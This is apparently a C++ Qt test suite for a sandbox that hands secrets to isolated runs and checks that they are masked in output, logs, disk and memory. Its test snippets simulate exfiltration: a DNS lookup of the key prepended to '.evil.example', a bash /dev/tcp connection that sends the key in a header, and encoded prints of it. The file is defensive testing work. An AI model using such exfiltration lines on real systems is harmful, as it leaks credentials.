// SPDX-License-Identifier: Apache-2.0
// Secrets that are lent to real sealed runs: they arrive as they are, and then are nowhere: not in output, record, files, command lines,
// environments or memory of our processes.
#include "lentfixture.h"
#include "tests/support/signals.h"
#include "traces.h"

#include <QDir>
#include <QFile>
#include <QJsonDocument>
#include <QProcess>
#include <QRandomGenerator>
#include <QTemporaryDir>
#include <QTest>

#include <algorithm>
#include <csignal>

using namespace glovebox;
using namespace Qt::StringLiterals;
using namespace std::chrono_literals;

namespace {

struct Shape
{
    NativeBuilder builder = NativeBuilder::Direct;
    bool warm = false;
    QByteArray language;
};

} // namespace

class TestLentSecrets : public LentFixture
{
    Q_OBJECT

private Q_SLOTS:
    void cleanup() { m_engine.reset(); }

    void valuesArriveAsTheyAre_data()
    {
        QTest::addColumn<NativeBuilder>("builder");
        QTest::addColumn<bool>("warm");
        for (const bool warm : {false, true}) {
            QTest::addRow("direct %s", warm ? "warm" : "cold") << NativeBuilder::Direct << warm;
            QTest::addRow("bwrap %s", warm ? "warm" : "cold") << NativeBuilder::Bubblewrap << warm;
        }
    }
    void valuesArriveAsTheyAre()
    {
        QFETCH(NativeBuilder, builder);
        QFETCH(bool, warm);
        open(builder, warm);
        const MaskedValue value;
        add(u"KEY"_s, value.value());
        add(u"api.key"_s, value.value());
        const QByteArray expected = value.masked().toHex();
        const struct
        {
            QByteArray language, code;
        } programs[] = {
            {"python", "import os\n"
                       "m = lambda b: bytes(c ^ 0x5a for c in b).hex()\n"
                       "f = '/run/secrets/api.key'\n"
                       "print(m(os.environb[b'KEY']), m(os.environb[b'OTHER']), m(open(f, 'rb').read()), "
                       "oct(os.stat(f).st_mode), os.stat(f).st_uid == os.getuid())\n"
                       "print(os.listdir('/run/secrets'), os.path.exists('/proc/self/fd/3'))\n"},
            {"node", "const fs = require('fs'), f = '/run/secrets/api.key';\n"
                     "const m = b => Buffer.from(Buffer.from(b).map(c => c ^ 0x5a)).toString('hex');\n"
                     "const s = fs.statSync(f);\n"
                     "console.log(m(process.env.KEY), m(process.env.OTHER), m(fs.readFileSync(f)), '0o' + "
                     "s.mode.toString(8), s.uid === process.getuid() ? 'True' : 'False');\n"
                     "console.log(JSON.stringify(fs.readdirSync('/run/secrets')).replaceAll('\"', \"'\"), 'False');\n"},
            {"bash", "f=/run/secrets/api.key\n"
                     "m() { python3 -c 'import sys; print(bytes(c ^ 0x5a for c in sys.stdin.buffer.read()).hex(), "
                     "end=\" \")'; }\n"
                     "printf %s \"$KEY\" | m; printf %s \"$OTHER\" | m; m < $f\n"
                     "echo 0o100$(stat -c %a $f) $([ -O $f ] && echo True)\necho \"['$(ls /run/secrets)'] False\"\n"},
        };
        for (const auto &[language, code] : programs) {
            const std::vector<SecretGrant> secrets{
                {u"KEY"_s, {}, false}, {u"KEY"_s, u"OTHER"_s, false}, {u"api.key"_s, {}, true}};
            auto result = run(language, code, secrets);
            // What is built ahead is of the shapes that were wanted; it takes its time.
            for (int turn = 0; warm && turn < 50 && !result->warm; ++turn) {
                QTest::qWait(100);
                result = run(language, code, secrets);
            }
            QCOMPARE(result->err.kept(), QByteArray());
            QCOMPARE(result->out.kept(),
                     expected + ' ' + expected + ' ' + expected + " 0o100400 True\n['api.key'] False\n");
            QCOMPARE(toString(result->outcome), toString(Outcome::Completed));
            QCOMPARE(result->warm, warm);
        }
        // The next one has none of it.
        const auto next = run("python", "import os\nprint('KEY' in os.environ, os.path.exists('/run/secrets'))", {});
        QCOMPARE(next->out.kept(), QByteArray("False False\n"));
    }

    void whateverItPrintsIsScrubbed_data()
    {
        QTest::addColumn<QByteArray>("language");
        QTest::addColumn<QByteArray>("code");
        const auto python = [](const char *name, const QByteArray &code) {
            QTest::newRow(name)
                << QByteArray("python")
                << "import os, sys, time, base64, json, urllib.parse, subprocess\nk = os.environ['KEY']\n" + code;
        };
        python("plainly", "print(k); print(k, file=sys.stderr)");
        python("byte by byte", "for c in k: os.write(1, c.encode()); time.sleep(0.002)");
        python("two streams in turn", "for c in k: os.write(1, c.encode()); os.write(2, c.encode())");
        python("traceback", "raise KeyError(k)");
        python("source line", "assert False, f'no luck with {k}'");
        python("base64", "for i in range(3): print(base64.b64encode(b'x' * i + k.encode()).decode())");
        python("wrapped base64",
               "b = base64.b64encode(k.encode() * 3).decode()\nfor n in range(1, 77):\n"
               "  for s in '\\n', '\\r\\n': print(s.join(b[i:i+n] for i in range(0, len(b), n)), end='\\n\\n')");
        python("URL base64 and repr",
               "print(base64.urlsafe_b64encode(k.encode())); print([base64.encodebytes(k.encode() * 3)])");
        python("hexadecimal", "print(k.encode().hex(), k.encode().hex().upper())");
        python("JSON", "print(json.dumps({'k': k}), repr(k), ascii(k), json.dumps(k).replace('/', '\\\\/'))");
        python("URL", "print(urllib.parse.quote(k), urllib.parse.quote(k, safe=''), urllib.parse.quote_plus(k), "
                      "''.join('%%%02x' % c for c in k.encode()))");
        python("reversed", "print(k[::-1])");
        python("flood around it", "sys.stdout.write('x' * 3000000 + k + 'y' * 3000000 + k)");
        python("at the cap", "m = 786432\nsys.stdout.write('x' * (m - 20) + k + 'y' * 3000000)");
        python("at the join",
               "sys.stdout.write('x' * (786432 - 20) + k[:20] + 'y' * 1000000 + k[20:] + 'z' * (262144 - 20))");
        python("at the end", "os.write(1, k.encode()); os._exit(0)");
        python("killed after it", "os.write(1, k.encode()); os.kill(os.getpid(), 9)");
        python("a child's command line",
               "subprocess.run(['sh', '-c', 'echo \"$0\"; tr \"\\\\0\" \" \" < /proc/$$/cmdline', k])");
        python("file names", "open('/work/' + k.replace('/', '_'), 'w'); open('/work/a', 'w').write(k); "
                             "print(os.listdir('/work'), open('/work/a').read())");
        QTest::newRow("bash") << QByteArray("bash")
                              << QByteArray("set -x; echo \"$KEY\"; env; cat <<< $KEY | rev; declare -p KEY; printf "
                                            "'%q\\n' \"$KEY\" | head -c 3");
        QTest::newRow("node") << QByteArray("node")
                              << QByteArray("const k = process.env.KEY; console.log(k, {k}, [k]); "
                                            "console.error(JSON.stringify({k}), encodeURIComponent(k), "
                                            "Buffer.from(k).toString('base64url')); throw new Error(k)");
    }
    void whateverItPrintsIsScrubbed()
    {
        QFETCH(QByteArray, language);
        QFETCH(QByteArray, code);
        open();
        const MaskedValue value;
        add(u"KEY"_s, value.value());
        const SecretValue clear = value.value();
        const ScrubPlan plan({{u"KEY"_s, clear.view()}});
        const auto live = m_engine->start(request(language, code, {{u"KEY"_s, {}, false}}));
        QByteArray seen[2];
        qint64 cursor = 0;
        for (;;) {
            const OutputSlice slice = live->output(cursor, 1 << 20);
            if (slice.skipped > 0) { // whoever shows it says so there
                for (QByteArray &stream : seen)
                    stream += "[left out]";
            }
            for (const OutputChunk &chunk : slice.chunks)
                seen[int(chunk.stream)] += chunk.bytes;
            cursor = slice.next;
            if (slice.atEnd)
                break;
            if (slice.chunks.isEmpty())
                QTest::qSleep(1);
        }
        const auto result = live->wait();
        QVERIFY2(!nothingRan(result->outcome), qPrintable(result->reason.english()));
        for (const QByteArray &bytes : {result->out.kept(), result->err.kept(), QJsonDocument(toJson(*result)).toJson(),
                                        entries(result->id), seen[0], seen[1]}) {
            QVERIFY2(!plan.finds(bytes), bytes.right(3000).constData());
            QVERIFY(!value.isIn(bytes));
        }
        QVERIFY((result->out.kept() + result->err.kept()).contains("[secret KEY]"));
        QVERIFY(!isOnDisk(plan, m_home->path()));
    }

    void noPartOfAValueIsShownWhereARunIsCutOff_data()
    {
        QTest::addColumn<QByteArray>("language");
        QTest::addColumn<QByteArray>("code");
        QTest::addColumn<QByteArray>("end");
        QTest::addColumn<Outcome>("outcome");
        const auto python = [](const char *name, const QByteArray &code, const QByteArray &end, Outcome outcome) {
            QTest::newRow(name) << QByteArray("python")
                                << "import os, sys, time, base64\nk = os.environ['KEY'].encode()\n" + code << end
                                << outcome;
        };
        const QByteArray wait = "; sys.stderr.write('there'); sys.stderr.flush(); time.sleep(60)";
        python("killed by itself", "os.write(1, k[:-1]); os.kill(os.getpid(), 9)", {}, Outcome::Signalled);
        python("ends in the middle", "os.write(1, k[:7]); os._exit(0)", {}, Outcome::Completed);
        python("at the time limit", "os.write(1, b'x' + k[:-1])" + wait, "time", Outcome::TimedOut);
        python("cancelled", "os.write(1, k[:-1])" + wait, "cancel", Outcome::Cancelled);
        python("cancelled and deaf",
               "import signal; signal.signal(2, signal.SIG_IGN); os.write(1, k.hex()[:-1].encode())" + wait, "cancel",
               Outcome::Cancelled);
        python("out of memory",
               // By several processes: without cgroups one alone is told that there is no more, and ends by itself.
               "os.write(1, base64.b64encode(k)[:-4])\nfor i in range(8):\n"
               "    if os.fork() == 0: b = b'x' * (100 << 20); time.sleep(60)\ntime.sleep(60)",
               "memory", Outcome::OutOfMemory);
        python("behind a flood",
               "os.write(1, b'x' * 5000 + k[:-1]); os.write(2, b'x' * 5000 + k.hex()[:-1].encode()); "
               "os.kill(os.getpid(), 9)",
               "output", Outcome::Signalled);
        python("on a terminal", "os.write(1, k[:-1])\nos.kill(os.getpid(), 9)", "terminal", Outcome::Signalled);
        QTest::newRow("node")
            << QByteArray("node")
            << QByteArray(
                   "const k = process.env.KEY; process.stdout.write(Buffer.from(k).toString('hex').slice(0, -1), "
                   "() => process.kill(process.pid, 'SIGKILL'))")
            << QByteArray() << Outcome::Signalled;
        QTest::newRow("head") << QByteArray("bash") << QByteArray("printf 'KEY=%s' \"$KEY\" | head -c 40")
                              << QByteArray() << Outcome::Completed;
    }
    void noPartOfAValueIsShownWhereARunIsCutOff()
    {
        QFETCH(QByteArray, language);
        QFETCH(QByteArray, code);
        QFETCH(QByteArray, end);
        QFETCH(Outcome, outcome);
        open();
        const MaskedValue value;
        add(u"KEY"_s, value.value());
        const SecretValue clear = value.value();
        RunRequest wanted = request(language, code, {{u"KEY"_s, {}, false}});
        Limits &limits = wanted.policy.limits;
        if (end == "time")
            limits.wall = 3s;
        if (end == "output")
            limits.outputBytes = 2000;
        if (end == "terminal")
            wanted.terminal = Terminal();
        const auto live = m_engine->start(std::move(wanted));
        if (end == "cancel") {
            QVERIFY(QTest::qWaitFor([&] { return live->output(0, 100).next > 0; }, 20000));
            live->cancel();
        }
        const auto result = live->wait();
        const QByteArray all =
            result->out.kept() + result->err.kept() + QJsonDocument(toJson(*result)).toJson() + entries(result->id);
        QVERIFY2(all.contains("[part of secret KEY]"), all);
        // The record, too, has what a handle shows.
        QByteArray seen;
        for (qint64 cursor = 0; cursor < result->out.totalBytes + result->err.totalBytes;) {
            const OutputSlice slice = live->output(cursor, 1 << 20);
            for (const OutputChunk &chunk : slice.chunks)
                seen += chunk.bytes;
            QVERIFY(slice.next > cursor);
            cursor = slice.next;
        }
        for (const QByteArray &form :
             {clear.view().toByteArray(), clear.view().toByteArray().toHex(), clear.view().toByteArray().toBase64()}) {
            const QByteArray beginning = form.first(form.size() / 8);
            QVERIFY2(!all.contains(beginning), all);
            QVERIFY2(!seen.contains(beginning), seen);
            QVERIFY(!isOnDisk(ScrubPlan({{u"KEY"_s, beginning}}), m_home->path()));
        }
        QCOMPARE(toString(result->outcome), toString(outcome));
    }

    void aTerminalIsScrubbedToo()
    {
        open();
        const MaskedValue value;
        add(u"KEY"_s, value.value());
        RunRequest wanted = request("bash", "echo \"<$KEY>\"; [ -t 1 ] && echo terminal", {{u"KEY"_s, {}, false}});
        wanted.terminal = Terminal();
        const auto result = m_engine->start(std::move(wanted))->wait();
        QCOMPARE(result->out.kept(), QByteArray("<[secret KEY]>\nterminal\n"));
        add(u"LINES"_s, SecretValue::copyOf("-----BEGIN KEY-----\nMm9ZaXBQYXNz\n-----END KEY-----\n"));
        wanted = request("bash", "stty sane; cat /run/secrets/LINES; echo \"$(cat /run/secrets/LINES) $KEY\"",
                         {{u"LINES"_s, {}, true}, {u"KEY"_s, {}, false}});
        wanted.terminal = Terminal();
        QCOMPARE(m_engine->start(std::move(wanted))->wait()->out.kept(),
                 QByteArray("[secret LINES]\r\n[secret LINES] [secret KEY]\r\n"));
    }

    void aTerminalsNameIsTheRuns()
    {
        open();
        for (const auto &[language, code] :
             {std::pair("sh", "echo $TERM"), std::pair("python", "import os\nprint(os.environ['TERM'])"),
              std::pair("node", "console.log(process.env.TERM)")}) {
            RunRequest wanted = request(language, code, {});
            wanted.terminal = Terminal{.type = "xterm-glovebox"};
            QCOMPARE(m_engine->start(wanted)->wait()->out.kept().trimmed(), QByteArray("xterm-glovebox"));
            wanted.variables = {{u"TERM"_s, "mine"}};
            QCOMPARE(m_engine->start(wanted)->wait()->out.kept().trimmed(), QByteArray("mine"));
        }
    }

    void howOftenItPrintsAValueIsTold()
    {
        open();
        const MaskedValue value, other;
        add(u"KEY"_s, value.value());
        add(u"OTHER"_s, other.value());
        const auto result = run("python",
                                "import os, sys\nk = os.environ['KEY']\nprint(k, k[::-1])\nprint(k, file=sys.stderr)\n"
                                "print(len(os.environ['OTHER']), k[:6], end='')",
                                {{u"KEY"_s, {}, false}, {u"OTHER"_s, {}, false}});
        QCOMPARE(result->events.size(), 1);
        QCOMPARE(toString(result->events.first().type), u"secret.printed"_s);
        QCOMPARE(result->events.first().detail.english(), u"The run printed KEY 3 times; shown as [secret KEY]."_s);
    }

    void eventsAndAttemptsAreScrubbed_data()
    {
        QTest::addColumn<QStringList>("allow");
        QTest::addColumn<QByteArray>("begin");
        QTest::newRow("some network") << QStringList{u"example.org"_s} << QByteArray("hostpart");
        QTest::newRow("no network") << QStringList() << QByteArray("HostPart");
    }

    void eventsAndAttemptsAreScrubbed()
    {
        QFETCH(QStringList, allow);
        QFETCH(QByteArray, begin);
        open();
        const QByteArray name = begin + QByteArray::number(QRandomGenerator::global()->generate(), 36);
        add(u"KEY"_s, SecretValue::copyOf(name));
        RunRequest wanted =
            request("python",
                    "import os, socket\n"
                    "try: socket.getaddrinfo(os.environ['KEY'] + '.evil.example', 80)\nexcept OSError: pass\n"
                    "print('tried')",
                    {{u"KEY"_s, {}, false}});
        wanted.policy.allow = allow;
        const auto result = m_engine->start(std::move(wanted))->wait();
        QCOMPARE(result->out.kept(), QByteArray("tried\n"));
        QVERIFY(!result->egress.isEmpty());
        QCOMPARE(result->egress[0].host, u"[secret KEY].evil.example"_s);
        QVERIFY(!QJsonDocument(toJson(*result)).toJson().contains(name));
        QVERIFY(!entries(result->id).contains(name));
    }

    void whatIsNotThereOrNotAllowedIsDeniedAndRecorded()
    {
        open();
        add(u"KEY"_s, SecretValue::copyOf("value-of-key"),
            {.languages = {u"node"_s}, .hosts = QStringList(), .callers = {}, .expiryMicroseconds = {}});
        const auto missing = run("sh", "touch ran", {{u"NONE"_s, {}, false}});
        QCOMPARE(toString(missing->outcome), toString(Outcome::Denied));
        QVERIFY(missing->controls.isEmpty()); // nothing was built
        const auto limited = run("sh", "touch ran", {{u"KEY"_s, {}, false}});
        QCOMPARE(toString(limited->outcome), toString(Outcome::Denied));
        RunRequest open = request("node", "1", {{u"KEY"_s, {}, false}});
        open.policy.allow = {u"example.org"_s};
        const auto tooOpen = m_engine->start(std::move(open))->wait();
        QCOMPARE(toString(tooOpen->outcome), toString(Outcome::Denied));
        QVERIFY(entries(limited->id).contains("\"secrets\":[\"KEY\"]"));
        QVERIFY(entries(missing->id).contains("\"outcome\":\"denied\""));
        QCOMPARE(toString(run("node", "1", {{u"KEY"_s, {}, false}})->outcome), toString(Outcome::Completed));
        QCOMPARE(toString(run("node", "1", {{u"no name"_s, {}, false}})->outcome), toString(Outcome::Rejected));
        // What a variable of Node.js can't hold.
        add(u"BYTES"_s, SecretValue::copyOf("\xff\xfe\xfd\xfc"));
        QCOMPARE(toString(run("node", "1", {{u"BYTES"_s, {}, false}})->outcome), toString(Outcome::Denied));
        QCOMPARE(toString(run("python", "1", {{u"BYTES"_s, {}, false}})->outcome), toString(Outcome::Completed));
    }

    void nothingOfItIsLeftInMemory_data() { valuesArriveAsTheyAre_data(); }
    void nothingOfItIsLeftInMemory()
    {
#if defined(__SANITIZE_ADDRESS__) || defined(__SANITIZE_THREAD__)
        QSKIP("A sanitizer keeps what is freed, and maps terabytes.");
#endif
        QFETCH(NativeBuilder, builder);
        QFETCH(bool, warm);
        open(builder, warm);
        const MaskedValue value;
        add(u"KEY"_s, value.value());
        add(u"FILE"_s, value.value());
        {
            const SecretValue copy = value.value();
            QVERIFY(isInMemory(value, "self")); // it would be found
        }
        for (const QByteArray language : {"python", "node", "bash"}) {
            const QByteArray code =
                language == "python" ? "import os, sys\nprint(os.environ['KEY'], file=sys.stderr)\nos.write(1, "
                                       "os.environb[b'KEY'])\nraise KeyError(os.environ['KEY'])"
                : language == "node"
                    ? "console.log(process.env.KEY); console.error(Buffer.from(process.env.KEY).toString('base64'))"
                    : "echo \"$KEY\"; echo \"$KEY\" >&2; cat /run/secrets/FILE";
            const auto live = m_engine->start(request(language, code, {{u"KEY"_s, {}, false}, {u"FILE"_s, {}, true}}));
            const auto result = live->wait();
            QVERIFY((result->out.kept() + result->err.kept()).contains("[secret KEY]"));
        }
        QVERIFY(m_engine->vault().remove(u"KEY"_s, {}, Patience::of(5s)));
        QVERIFY(m_engine->vault().remove(u"FILE"_s, {}, Patience::of(5s)));
        qint64 read = 0;
        QVERIFY(!isInMemory(value, "self", &read));
        QVERIFY(read > mebibyte);
        for (const QByteArray &pid : descendants()) {
            QVERIFY2(!isInMemory(value, pid), fileContent("/proc/" + pid + "/comm"));
            const QDir descriptors(QFile::decodeName("/proc/" + pid + "/fd"));
            for (const QFileInfo &file : descriptors.entryInfoList(QDir::Files | QDir::System))
                QVERIFY(!file.symLinkTarget().contains(u"glovebox-assignment"_s));
        }
    }

    void nobodyOutsideHasItWhileItRuns()
    {
        open();
        const MaskedValue value;
        add(u"KEY"_s, value.value());
        RunRequest wanted =
            request("bash",
                    "exec 3<>/dev/tcp/127.0.0.1/3128; printf 'GET http://a.invalid/ HTTP/1.1\\r\\nX-Key: "
                    "%s\\r\\n' \"$KEY\" >&3; echo \"$KEY\"; read line",
                    {{u"KEY"_s, {}, false}});
        wanted.policy.allow = {u"example.org"_s}; // so that there is an egress, too
        const auto live = m_engine->start(std::move(wanted));
        QVERIFY(QTest::qWaitFor([&] { return live->output(0, 100).next > 0; }, 10000));
        const SecretValue clear = value.value();
        const ScrubPlan plan({{u"KEY"_s, clear.view()}});
        QVERIFY(descendants().size() >= 3);
        QVERIFY(!isInCommandOrEnvironment(plan));
#ifndef __SANITIZE_ADDRESS__
        // The launcher handed it on, as a descriptor. Pid 1 and the snippet are the run, and egress has what the run sends through it.
        qsizetype looked = 0;
        for (const QByteArray &pid : descendants()) {
            const QByteArray name = fileContent("/proc/" + pid + "/comm").trimmed();
            qint64 read = 0;
            if (name != "glovebox-spawne")
                continue;
            QVERIFY2(!isInMemory(value, pid, &read), name);
            looked += read > 0;
        }
        QCOMPARE(looked, 1);
#endif
        QVERIFY(!isOnDisk(plan, m_home->path()));
        // No core file of whoever has it: the limit was lowered for good.
        for (const QByteArray &pid : descendants()) {
            const QByteArray name = fileContent("/proc/" + pid + "/comm").trimmed();
#if defined(__SANITIZE_ADDRESS__) || defined(__SANITIZE_THREAD__)
            if (name == "glovebox-egress")
                continue; // runs without its seal there (tests/engine/launcher/unsealedegress.cpp)
#endif
            const QByteArray limits = fileContent("/proc/" + pid + "/limits");
            QVERIFY2(limits.contains("Max core file size        1                    1 "), name + limits);
        }
        live->closeInput();
        const auto result = live->wait();
        QVERIFY(!isInCommandOrEnvironment(plan));
        QVERIFY(!isOnDisk(plan, m_home->path()));
        QVERIFY(!plan.finds(QJsonDocument(toJson(*result)).toJson()) && !plan.finds(entries(result->id)));
    }

    // The memory of the program itself has the values for a while.
    void theCommandLineLeavesNoCoreFile()
    {
        QTemporaryDir home;
        QProcess program;
        QProcessEnvironment environment = QProcessEnvironment::systemEnvironment();
        environment.insert(u"GLOVEBOX_HOME"_s, home.path());
        program.setProcessEnvironment(environment);
        program.setWorkingDirectory(home.path());
        program.start(QStringLiteral(GLOVEBOX_BIN "/glovebox"),
                      {u"run"_s, u"-l"_s, u"sh"_s, u"-c"_s, u"echo on; read line"_s});
        QVERIFY(QTest::qWaitFor([&] { return program.bytesAvailable() > 0; }, 10000));
        const QByteArray limits = fileContent("/proc/" + QByteArray::number(program.processId()) + "/limits");
        QVERIFY2(limits.contains("Max core file size        1                    1 "), limits);
        sendSignal(program.processId(), SIGABRT);
        QVERIFY(program.waitForFinished());
        QCOMPARE(program.exitStatus(), QProcess::CrashExit);
        QVERIFY(QDir(home.path()).entryList({u"core*"_s}).isEmpty());
    }

    void whatLooksLikeASecretOfNobodysIsTold()
    {
        open();
        const QByteArray token = "ghp_" + QByteArray("aB3dE5fG7h").repeated(3) + "iJ9kL0";
        const auto result = run("sh", "echo 'ghp_'aB3dE5fG7haB3dE5fG7haB3dE5fG7hiJ9kL0", {});
        QCOMPARE(result->out.kept(), token + '\n'); // never blocked, never changed
        QCOMPARE(result->events.size(), 1);
        QVERIFY(result->events[0].type == EventType::LeakOutput);
        QCOMPARE(result->events[0].detail.english(),
                 u"Something in the run's stdout looks like a secret: GitHub token (found: 1)."_s);
        QVERIFY(m_engine->settings().setFlag(u"leaks.ignore"_s, u"card-number github-token"_s));
        QVERIFY(run("sh", "echo 'ghp_'aB3dE5fG7haB3dE5fG7haB3dE5fG7hiJ9kL0", {})->events.isEmpty());
    }

    void whatIsLentToNobodyCostsNothing()
    {
        open();
        QByteArray all;
        for (int i = 0; i < 256; ++i)
            all += QByteArray(1, char(i));
        const auto result =
            run("python", "import os\nos.write(1, bytes(range(256)))\nos.write(1, b'\\\\u0041%41\\\\')", {});
        QCOMPARE(result->out.kept(), all + "\\u0041%41\\");
    }
};

QTEST_GUILESS_MAIN(TestLentSecrets)
#include "tst_lentsecrets.moc"
